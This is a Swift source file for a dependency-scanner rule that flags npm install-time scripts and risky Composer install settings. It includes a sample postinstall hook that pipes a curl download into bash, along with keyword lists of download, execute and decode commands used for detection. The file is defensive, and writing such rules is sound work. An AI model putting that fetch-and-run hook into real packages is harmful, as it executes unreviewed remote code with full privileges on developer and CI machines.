import BulwarkCore
import BulwarkFormats
import Foundation

/// npm lifecycle scripts that run at install time.
struct InstallScriptRule: Rule {
    typealias Model = DependencyModel
    static let lifecycle: Set<String> = ["preinstall", "install", "postinstall", "preuninstall", "postuninstall", "prepare"]
    /// Composer events that run the root package's scripts during `composer install` / `update`.
    static let composerEvents: Set<String> = ["pre-install-cmd", "post-install-cmd", "pre-update-cmd", "post-update-cmd",
                                              "pre-autoload-dump", "post-autoload-dump", "post-root-package-install",
                                              "post-create-project-cmd", "pre-package-install", "post-package-install"]

    static let rule = RuleDescription(
        id: "dep-install-script", name: "Install-time script in package.json", family: "dependencies",
        summary: "package.json runs a script at install time (download-and-execute or obfuscated code is high, known binary installers are info), or composer.json lets every plugin run.",
        rationale: rationale(
            detects: "`preinstall`, `install` and `postinstall` scripts (and `prepare`, which runs for git installs) in package.json. Scripts that download and execute (`curl ... | sh`, `wget`, `node -e` with a URL, PowerShell `iwr`/`Invoke-Expression`) or decode and evaluate code (`eval`, `base64 -d`, `Buffer.from(..., 'base64')`) are high; well-known binary installers and build helpers (esbuild's `node install.js`, `node-gyp rebuild`, `prebuild-install`, `node-pre-gyp`, `husky`, `patch-package`) are info; anything else is low. In composer.json, `config.allow-plugins: true` (every Composer plugin in the dependency tree runs code during install, a hijacked release included) is medium, and install-event scripts (`post-install-cmd`, `post-update-cmd`, `post-autoload-dump`...) are reported only when they download and execute or decode and evaluate code (high): the project's own PHP scripts are not install-time surprises.",
            matters: "Install scripts run with the developer's or CI runner's full privileges the moment a package is installed, before any code is reviewed or imported. Almost every npm malware campaign uses them: the nx s1ngularity and Shai-Hulud worms, the chalk/debug compromise, eslint-config-prettier, ua-parser-js.",
            fix: "Remove the script or replace the download with a pinned, hashed dependency; install with `--ignore-scripts` where possible (`npm config set ignore-scripts true`, pnpm's `onlyBuiltDependencies`, bun's `trustedDependencies`).",
            references: ["[npm: scripts and lifecycle](https://docs.npmjs.com/cli/using-npm/scripts)",
                         "[pnpm: onlyBuiltDependencies](https://pnpm.io/package_json#pnpmonlybuiltdependencies)",
                         "[Composer: allow-plugins](https://getcomposer.org/doc/06-config.md#allow-plugins)"]),
        defaultSeverity: .low, defaultConfidence: .high,
        remediation: "Remove the install script, or install with scripts disabled and allow only known builders.",
        examples: [
            Example(.triggers, path: "web/package.json", """
            {"name": "web", "scripts": {
              "postinstall": "curl -fsSL https://cdn.example.net/setup.sh | bash" // <-
            }}
            """),
            Example(.triggers, path: "package.json", """
            {"name": "esbuild", "scripts": {
              "postinstall": "node install.js" // <-
            }}
            """),
            Example(.clean, path: "package.json", #"{"name": "web", "scripts": {"build": "vite build", "test": "vitest"}}"#),
            Example(.triggers, path: "composer.json", """
            {"require": {"monolog/monolog": "^3.0"},
             "config": {"allow-plugins": true}} // <-
            """),
            Example(.clean, path: "composer.json", """
            {"require": {"monolog/monolog": "^3.0"},
             "config": {"allow-plugins": {"dealerdirect/phpcodesniffer-composer-installer": true}},
             "scripts": {"post-install-cmd": ["@php bin/console cache:clear"]}}
            """),
        ])
    var description: RuleDescription { Self.rule }

    static let benign = ["node install.js", "node-gyp rebuild", "node-gyp-build", "prebuild-install", "node-pre-gyp install",
                         "husky install", "husky", "patch-package", "ngcc", "opencollective-postinstall", "is-ci || husky",
                         "npx only-allow", "lefthook install", "simple-git-hooks", "playwright install", "electron-builder install-app-deps"]

    /// `high` for download-and-execute or decode-and-eval, `info` for known builders, `low` otherwise.
    static func classify(_ command: String) -> (Severity, String) {
        let c = command.lowercased()
        let fetch = ["curl ", "wget ", "invoke-webrequest", "iwr ", "http://", "https://", "fetch(", "bitsadmin", "certutil"]
        let exec = ["| sh", "|sh", "| bash", "|bash", "| node", "| python", "iex", "invoke-expression", "node -e", "python -c", "eval", "; sh ", "&& sh ", "&& bash ", "chmod +x", "./"]
        let decode = ["base64", "buffer.from(", "atob(", "\\x", "fromcharcode"]
        if fetch.contains(where: c.contains), exec.contains(where: c.contains) || c.contains("-o ") || c.contains("-o-") {
            return (.high, "downloads and executes code")
        }
        if decode.contains(where: c.contains), c.contains("eval") || c.contains("node -e") || c.contains("| sh") || c.contains("| bash") || c.contains("python -c") {
            return (.high, "decodes and evaluates hidden code")
        }
        if c.contains("node -e") || c.contains("python -c") { return (.medium, "runs inline code") }
        if benign.contains(where: { c.hasPrefix($0) || c == $0 }) { return (.info, "runs a known build or binary-install helper") }
        return (.low, "runs a script")
    }

    func check(_ model: DependencyModel, context: RuleContext) -> [Finding] {
        if model.kind == .composerJSON { return composer(model, context: context) }
        guard model.kind == .packageJSON else { return [] }
        var out: [Finding] = []
        for s in model.parsed?.scripts ?? [] where Self.lifecycle.contains(s.name) {
            if s.name == "prepare", Self.classify(s.command).0 < .medium { continue } // prepare usually builds the package itself
            let (sev, what) = Self.classify(s.command)
            out.append(Finding(rule: Self.rule, message: "The `\(s.name)` script \(what) at install time: `\(s.command.prefix(160))`.",
                               location: context.location(line: s.line, logicalPath: "scripts.\(s.name)"), severity: sev,
                               anchor: "\(s.name):\(s.command)", properties: ["script": s.name, "command": String(s.command.prefix(300))]))
        }
        return out
    }

    func composer(_ model: DependencyModel, context: RuleContext) -> [Finding] {
        var out: [Finding] = []
        for s in model.parsed?.scripts ?? [] {
            if s.name == "config.allow-plugins" {
                out.append(Finding(rule: Self.rule, message: "`config.allow-plugins: true` lets every Composer plugin in the dependency tree run code during install, including plugins a future or hijacked release adds.",
                                   location: context.location(line: s.line, logicalPath: "config.allow-plugins"), severity: .medium,
                                   remediation: "List the plugins you need by name: `\"allow-plugins\": {\"vendor/plugin\": true}`.",
                                   anchor: "config.allow-plugins", properties: ["script": s.name]))
                continue
            }
            guard Self.composerEvents.contains(s.name) else { continue }
            let (sev, what) = Self.classify(s.command)
            guard sev >= .high else { continue }
            out.append(Finding(rule: Self.rule, message: "The `\(s.name)` script \(what) whenever the project is installed: `\(s.command.prefix(160))`.",
                               location: context.location(line: s.line, logicalPath: "scripts.\(s.name)"), severity: sev,
                               anchor: "\(s.name):\(s.command)", properties: ["script": s.name, "command": String(s.command.prefix(300))]))
        }
        return out
    }
}
